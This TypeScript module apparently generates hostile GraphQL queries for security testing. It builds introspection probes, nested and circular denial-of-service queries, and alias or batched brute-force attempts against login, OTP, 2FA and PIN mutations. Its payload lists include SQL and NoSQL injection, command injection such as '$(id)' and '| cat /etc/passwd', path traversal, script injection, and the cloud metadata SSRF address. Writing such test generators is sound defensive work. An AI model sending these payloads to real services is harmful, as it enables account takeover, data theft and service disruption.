import type { Random } from '../../random.js';
import { type Grammar, sentence } from './grammar.js';

const PARTS: Grammar = {
  field: [
    'user',
    'users',
    'friends',
    'posts',
    'author',
    'comments',
    'owner',
    'parent',
    'children',
    'team',
    'members',
    'orders',
    'customer',
    'items',
    'product',
    'category',
    'albums',
    'songs',
    'artist',
    'followers',
    'following',
    'node',
    'nodes',
    'edges',
    'replies',
    'thread',
    'project',
    'issues',
    '<noun>',
    '<noun>s',
  ],
  leaf: ['id', 'name', 'email', '__typename', 'title', 'id name', 'password', 'token', '<noun>'],
  operation: ['', 'query ', 'query <word> ', 'query evil ', 'query <noun> ', 'subscription '],
  call: [
    'user(id:<n>){email}',
    'user(id:"<n>"){id name}',
    '<noun>(id:<n>){id}',
    '__typename',
    'systemUpdate',
    'me{id}',
    '<noun>s(first:<n>){id}',
    'search(text:"<noun>"){id}',
    '__schema{types{name}}',
  ],
  guess: [
    'login(username:"admin",password:"<word>"){token}',
    'login(email:"<noun>@<noun>.com",password:"<token>"){token}',
    'login(input:{username:"<noun>",password:"<word>"}){accessToken}',
    'signIn(user:"admin",pass:"<n>"){ok}',
    'verifyOtp(code:"<n>"){success}',
    'verify2FA(code:"<n>"){token}',
    'redeemCoupon(code:"<token>"){amount}',
    'resetPassword(token:"<token>"){ok}',
    'checkPin(pin:<n>){valid}',
    'isValidDiscount(code:<n>){valid}',
    'authenticate(password:"<word>"){jwt}',
  ],
  introspection: [
    '__schema{types{name}}',
    '__schema{queryType{name}}',
    '__schema{queryType{fields{name}}}',
    '__schema{mutationType{fields{name args{name}}}}',
    '__schema { directives { name locations } }',
    '__schema{types{name,fields{name,args{name,description,type{name,kind,ofType{name,kind}}}}}}',
    '__schema { subscriptionType { name } }',
    '__type(name:"<type>"){name}',
    '__type(name: "<type>") { fields { name type { name kind ofType { name } } } }',
    '__type(name:"<type>"){inputFields{name}}',
    '__type(name:"<type>"){enumValues{name}}',
    '__schema{types{possibleTypes{name}}}',
    '__schema\n{\ntypes\n{\nname\n}\n}',
    '__schema,{types,{name}}',
    '__schema #<noun>\n{types{name}}',
    's:__schema{types{name}}',
    '__schema { ...<word> }',
    '__typename __schema { types { kind name description } }',
    '_service { sdl }',
    '_entities(representations:[{__typename:"<type>",id:"<n>"}]){__typename}',
    '__schema{types{name fields(includeDeprecated:true){name isDeprecated}}}',
  ],
  type: [
    'User',
    'Query',
    'Mutation',
    'Admin',
    'Account',
    'Token',
    'Subscription',
    'Role',
    '<noun>',
    'Payment',
    'Secret',
  ],
  injected: [
    "' or 1=1--",
    "' or '1'='1",
    '1; drop table users',
    '{\\"$ne\\":null}',
    '../../../../etc/passwd',
    '‹script›alert(<n>)‹/script›',
    '; id',
    '$(id)',
    '{{<n>*<n>}}',
    'http://169.254.169.254/latest/meta-data/',
    "1' union select 1,2,3--",
    '| cat /etc/passwd',
    'file:///etc/passwd',
    '" or ""="',
    "'||'1'=='1",
  ],
  target: [
    'user(name:"<injected>"){id}',
    'users(filter:"<injected>"){id email}',
    'search(q:"<injected>"){title}',
    '<noun>(id:"<injected>"){id}',
    'systemDebug(arg:"<injected>")',
    'importPaste(host:"<host>",port:<n>,path:"<injected>"){result}',
    'upload(filename:"<injected>"){ok}',
    'node(id:"<injected>"){id}',
    '<noun>s(orderBy:"<injected>"){id}',
    'fetchUrl(url:"<injected>"){status}',
    'login(username:"<injected>",password:"x"){token}',
  ],
};

/** GraphQL documents that map a schema, multiply work, guess by the hundred, or carry another attack in an argument. */
export function graphqlAbuse(random: Random): string {
  return random.pick(KINDS)(random);
}

type Document = (random: Random) => string;

const part = (name: string, random: Random): string => sentence(PARTS, random, name);

const deep: Document = (random) => {
  const cycle = Array.from({ length: 1 + random.below(3) }, () => part('field', random));
  const levels = 8 + random.below(random.chance(0.3) ? 60 : 14);
  const gap = random.pick(['', '', ' ', '\n']);
  let document = part('leaf', random);
  for (let level = levels; level > 0; level--) {
    const name = cycle[level % cycle.length] ?? 'node';
    const first = random.chance(0.1) ? `(first:${10 ** (1 + random.below(4))})` : '';
    document = `${gap}${name}${first}${gap}{${gap}${document}${gap}}`;
  }
  return `${part('operation', random)}{${document}}`;
};

const aliases: Document = (random) => {
  const guesses = random.chance(0.5);
  const prefix = random.pick(['a', 'q', 'alias', 'l', 'login', 'u', 'x', 'op', 'n']);
  const gap = random.pick([' ', '\n', ',', '\n  ']);
  const fixed = part('call', random);
  const count = 6 + random.below(random.chance(0.3) ? 120 : 20);
  const lines = Array.from({ length: count }, (_, i) => `${prefix}${i}:${guesses ? part('guess', random) : fixed}`);
  return `${guesses ? 'mutation' : random.pick(['', 'query'])}{${lines.join(gap)}}`;
};

const repeated: Document = (random) => {
  const field = random.pick(['__typename', part('leaf', random), part('call', random)]);
  return `${part('operation', random)}{${`${field}${random.pick([' ', '\n', ','])}`.repeat(20 + random.below(100))}}`;
};

const directives: Document = (random) => {
  const directive = random.pick([
    '@skip(if:false)',
    '@include(if:true)',
    '@aa',
    '@a',
    '@deprecated',
    `@${part('field', random)}`,
  ]);
  return `${part('operation', random)}{__typename${directive.repeat(10 + random.below(80))}}`;
};

const circular: Document = (random) => {
  const [a, b] = [part('field', random), random.pick(['B', 'F2', 'Y'])];
  return `query{...A} fragment A on Query{${a}{...${b}}} fragment ${b} on Query{${a}{...A}}`;
};

const batch: Document = (random) => {
  const guesses = random.chance(0.6);
  const count = 4 + random.below(40);
  return JSON.stringify(
    Array.from({ length: count }, () =>
      guesses ? { query: `mutation{${part('guess', random)}}` } : { query: `{${part('call', random)}}` },
    ),
  );
};

const introspection: Document = (random) => {
  const wrap = random.pick([
    '{$}',
    'query{$}',
    'query { $ }',
    'query IntrospectionQuery { $ }',
    '{\n  $\n}',
    'query Q{$}',
    'subscription{$}',
  ]);
  return wrap.replace('$', () => part('introspection', random));
};

const injected: Document = (random) =>
  `${random.pick(['', 'query', 'mutation', 'query Q'])}{${part('target', random)}}`;

const KINDS: readonly Document[] = [
  introspection,
  introspection,
  introspection,
  deep,
  deep,
  deep,
  aliases,
  aliases,
  repeated,
  directives,
  circular,
  batch,
  batch,
  injected,
  injected,
];
